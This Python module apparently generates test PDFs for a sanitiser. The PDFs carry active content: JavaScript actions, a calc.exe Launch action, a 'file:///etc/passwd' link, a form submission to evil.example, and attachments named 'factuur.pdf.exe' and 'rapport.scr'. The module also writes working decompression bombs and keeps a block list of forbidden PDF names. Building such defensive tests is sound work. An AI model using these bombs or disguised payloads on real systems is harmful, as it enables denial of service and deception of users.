"""Write annex PDFs carrying what a bundle must not pass on: active content and decompression bombs."""

from __future__ import annotations

import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

# Names that only active content uses: none may be left anywhere in a bundle.
FORBIDDEN = {"/JS", "/JavaScript", "/Launch", "/EmbeddedFiles", "/EmbeddedFile", "/FileAttachment",
             "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/RichMedia", "/Rendition", "/EF",
             "/XFA", "/Screen"}

EXPECTED_REMOVAL = ("7 JavaScript actions, 1 Launch action, 1 link to another file, 1 form submission, "
                    "1 form data import, 2 media objects, 1 XFA form, 1 'file:' link, 1 'javascript:' link "
                    "and the embedded files 'bijlage.docm' and 'factuur.pdf.exe'")


def forbidden_names(pdf: pikepdf.Pdf) -> set[str]:
    """Return the active-content names used anywhere in pdf, as keys or values of any object."""
    found: set[str] = set()
    stack, seen = [pdf.trailer, *pdf.objects], set()
    while stack:
        obj = stack.pop()
        if isinstance(obj, (Dictionary, pikepdf.Stream, Array)) and obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, Array):
            stack.extend(obj)
        elif isinstance(obj, (Dictionary, pikepdf.Stream)):
            found |= set(obj.keys()) & FORBIDDEN
            stack.extend(obj[key] for key in obj.keys())
        elif isinstance(obj, Name) and str(obj) in FORBIDDEN:
            found.add(str(obj))
        elif isinstance(obj, String) and str(obj).lower().startswith(("javascript:", "file:")):
            found.add(str(obj))
    return found


def _javascript(pdf: pikepdf.Pdf, code: str) -> Dictionary:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _link(pdf: pikepdf.Pdf, rect: list[int], action: Dictionary, **extra) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, Border=[0, 0, 0],
                                        A=action, **extra))


def _embedded(pdf: pikepdf.Pdf, name: str) -> Dictionary:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", filename=name)
    return spec.obj


def active_content_pdf(path: Path) -> Path:
    """Write a 2-page PDF with every kind of active content, plus links, outline and a field to keep."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.add_blank_page(page_size=(595, 842))
    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    web = Dictionary(S=Name.URI, URI=String("https://www.example.org/"))
    goto = Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]),
                      Next=Array([_javascript(pdf, "app.alert(3)"), Dictionary(S=Name.URI, URI=String("mailto:a@b.be"))]))
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("naam"), Rect=[50, 50, 250, 80], P=first,
        AA=Dictionary(K=_javascript(pdf, "AFNumber_Keystroke()"))))
    attachment = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[300, 300, 320, 320],
        FS=_embedded(pdf, "factuur.pdf.exe")))
    first.Annots = Array([
        _link(pdf, [10, 10, 100, 30], web),
        _link(pdf, [10, 40, 100, 60], goto),
        _link(pdf, [10, 70, 100, 90], Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        _link(pdf, [10, 100, 100, 120], Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        _link(pdf, [10, 130, 100, 150], Dictionary(S=Name.Launch, F=String("calc.exe"))),
        _link(pdf, [10, 160, 100, 180], Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
        _link(pdf, [10, 190, 100, 210], Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))),
        _link(pdf, [10, 220, 100, 240], Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        _link(pdf, [10, 250, 100, 270], web, AA=Dictionary(E=_javascript(pdf, "app.alert(2)"))),
        field, attachment,
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Popup, Rect=[300, 330, 400, 400],
                                     Parent=attachment)),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[400, 400, 500, 500])),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=[400, 500, 500, 600],
                                     A=Dictionary(S=Name.Rendition, OP=0))),
    ])
    first.AA = Dictionary(O=_javascript(pdf, "app.alert(4)"))
    pdf.Root.OpenAction = _javascript(pdf, "app.alert(5)")
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _javascript(pdf, "app.alert(6)")])))
    pdf.attachments["bijlage.docm"] = pikepdf.AttachedFileSpec(pdf, b"macro", filename="bijlage.docm")
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Tweede pagina", 1))
        bad = pikepdf.OutlineItem("Script")
        outline.root.append(bad)
    outline_items = pdf.Root.Outlines
    outline_items.Last.A = _javascript(pdf, "app.alert(7)")
    pdf.save(path)
    return path


def deflated_zeros(size: int, piece: int = 16 * 1024**2) -> bytes:
    """Return `size` zero bytes deflated twice, without ever compressing `size` bytes.

    A full flush makes each piece's deflate blocks start afresh and on a byte boundary, so the
    second piece's blocks serve for every later one; the checksum of n zeros is known.
    """
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(piece)) + packer.flush(zlib.Z_FULL_FLUSH)
    repeated = packer.compress(bytes(piece)) + packer.flush(zlib.Z_FULL_FLUSH)
    adler32 = ((size % 65521) << 16) | 1
    once = first + repeated * (size // piece - 1) + b"\x03\x00" + adler32.to_bytes(4, "big")
    return zlib.compress(once, 9)


def bomb_pdf(path: Path, size: int = 2 * 1024**3) -> Path:
    """Write a one-page PDF of a few KiB with an image stream that inflates to `size` bytes."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    image = pikepdf.Stream(pdf, deflated_zeros(size))
    image.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height, image.BitsPerComponent, image.ColorSpace = 32768, size // 32768, 8, Name.DeviceGray
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))
    pdf.pages[0].Contents = pdf.make_stream(b"q 200 0 0 200 0 0 cm /Im0 Do Q")
    pdf.save(path, compress_streams=False)
    return path


def image_bomb_pdf(path: Path, side: int = 200_000) -> Path:
    """Write a one-page PDF of 1 KiB whose CCITT image declares side × side pixels (4.6 GiB at 1 bit each)."""
    # In Group 4, a white row below a white row is the one bit of 'vertical 0'; EOFB ends the image.
    bits = "1" * side + "000000000001" * 2
    bits += "0" * (-len(bits) % 8)
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    image = pikepdf.Stream(pdf, zlib.compress(int(bits, 2).to_bytes(len(bits) // 8, "big"), 9))
    image.Filter = Array([Name.FlateDecode, Name.CCITTFaxDecode])
    image.DecodeParms = Array([None, Dictionary(K=-1, Columns=side, Rows=side)])
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height, image.BitsPerComponent, image.ColorSpace = side, side, 1, Name.DeviceGray
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))
    pdf.pages[0].Contents = pdf.make_stream(b"q 200 0 0 200 0 0 cm /Im0 Do Q")
    pdf.save(path, compress_streams=False)
    return path


def object_stream_bomb_pdf(path: Path, padding: int = 512 * 1024**2, piece: int = 16 * 1024**2) -> Path:
    """Write a PDF whose catalog is in an object stream followed by `padding` zero bytes.

    qpdf decodes an object stream as it opens the file, to find the catalog: before anything
    else can look at it. The stream is deflated as deflated_zeros does, piece by piece.
    """
    found = b"1 0 "
    body = found + b"<< /Type /Catalog /Pages 3 0 R >>"
    packer = zlib.compressobj(9)
    first = packer.compress(body) + packer.flush(zlib.Z_FULL_FLUSH)
    repeated = packer.compress(bytes(piece)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(body)
    for _ in range(padding // piece):
        checksum = zlib.adler32(bytes(piece), checksum)
    data = first + repeated * (padding // piece) + b"\x03\x00" + checksum.to_bytes(4, "big")
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {2: len(out)}
    out += b"2 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(found), len(data)) + data + b"\nendstream\nendobj\n"
    offsets[3] = len(out)
    out += b"3 0 obj\n<< /Type /Pages /Kids [4 0 R] /Count 1 >>\nendobj\n"
    offsets[4] = len(out)
    out += b"4 0 obj\n<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] /Resources << >> >>\nendobj\n"
    offsets[5] = len(out)
    rows = [b"\x00" + bytes(4) + b"\xff\xff", b"\x02" + (2).to_bytes(4, "big") + bytes(2)]
    rows += [b"\x01" + offsets[number].to_bytes(4, "big") + bytes(2) for number in (2, 3, 4, 5)]
    table = b"".join(rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[5]
    path.write_bytes(bytes(out))
    return path


def disguised_active_content_pdf(path: Path) -> Path:
    """Write a PDF whose active content hides where active_content_pdf puts none: actions and an
    attachment written as streams (some viewers read a stream's dictionary like any other), an
    article thread in another file, a field's parent, the catalog's events, a single /Next."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=pdf.make_stream(b"", S=Name.JavaScript, JS=String("app.alert(1)")),
                         C=Dictionary(S=Name.Named, N=Name.NextPage,
                                      Next=Dictionary(S=Name.ImportData, F=String("data.fdf"))))
    parent = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("bedrag"), AA=Dictionary(K=_javascript(pdf, "k()"))))
    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[50, 50, 200, 80], P=page,
                                          Parent=parent))
    parent.Kids = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([parent]))
    pdf.Root.AA = Dictionary(WC=_javascript(pdf, "app.alert(2)"))
    attachment = pdf.make_stream(b"", Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 40, 10, 50],
                                 FS=_embedded(pdf, "rapport.scr"))
    page.Annots = Array([
        widget, attachment,
        _link(pdf, [10, 10, 100, 30], pdf.make_stream(b"", S=Name.Launch, F=String("calc.exe"))),
        _link(pdf, [10, 40, 100, 60], Dictionary(S=Name.Thread, F=String("elders.pdf"), D=0)),
        _link(pdf, [10, 70, 100, 90], Dictionary(S=Name.URI, URI=String("https://www.example.org/"))),
    ])
    pdf.save(path)
    return path


EXPECTED_DISGUISED_REMOVAL = ("3 JavaScript actions, 1 Launch action, 1 link to another file, 1 form data "
                              "import and the embedded file 'rapport.scr'")
